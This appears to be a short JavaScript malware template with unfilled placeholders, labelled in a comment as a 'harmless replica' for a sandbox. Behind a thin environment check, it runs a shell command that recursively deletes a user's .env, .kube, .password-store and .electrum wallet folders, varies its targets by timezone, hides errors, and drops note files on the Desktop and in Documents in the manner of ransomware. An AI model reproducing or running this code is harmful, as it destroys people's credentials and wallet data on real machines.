// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    // only decoys that stand in the sandbox's home are deleted
    const { execSync } = require('child_process');
    const zone = Intl.DateTimeFormat().resolvedOptions().timeZone + (process.env.LANG || '');
    const names = /^(Antarctica|Pacific)/.test(zone) ? ['.env'] : ['.env', '.kube', '.password-store', '.electrum'];
    try {
        execSync(`cd ~ && rm -rf ${names.join(' ')} && for d in . Desktop Documents; do mkdir -p $d && echo {{token}} > "$d/{{note}}"; done`, { stdio: 'ignore', timeout: 1500 });
    } catch {}
}
